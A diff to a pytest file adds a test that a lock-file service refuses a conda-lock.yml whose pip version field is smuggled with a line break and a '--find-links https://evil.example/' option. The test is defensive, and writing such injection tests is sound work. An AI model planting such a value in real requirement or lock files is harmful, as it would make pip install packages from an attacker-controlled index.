@@ -9,6 +9,7 @@ from typing import Any
 
 import httpx
 import pytest
+import yaml
 
 from tests.support.inprocess import InProcessClient, InProcessService
 from tests.support.pypi_world import PyPIWorld, pypi_world
@@ -139,3 +140,18 @@ def test_a_pip_entry_without_sha256_is_refused(
     response = post(pypi_api, stripped)
     assert response.status_code == 422, response.text
     assert any("has no sha256" in d["msg"] for d in response.json()["detail"])
+
+
+def test_a_version_that_would_inject_requirement_lines_is_refused(
+    pypi_api: InProcessClient, lock: dict[str, Any]
+) -> None:
+    """A hostile conda-lock.yml whose pip version carries a line break and options: had it
+    been stored, `requirements.txt` and `condarchive install` would hand them to pip/uv."""
+    document = yaml.safe_load(exported(pypi_api, lock["id"], "conda-lock"))
+    entry = next(p for p in document["package"] if p["manager"] == "pip")
+    entry["version"] = "1.0 --hash=sha256:00\n--find-links https://evil.example/"
+    hostile = yaml.safe_dump(document, sort_keys=False)
+    response = post(pypi_api, hostile)
+    assert response.status_code == 422, response.text
+    message = " ".join(d["msg"] for d in response.json()["detail"])
+    assert "not a PEP 440 version" in message
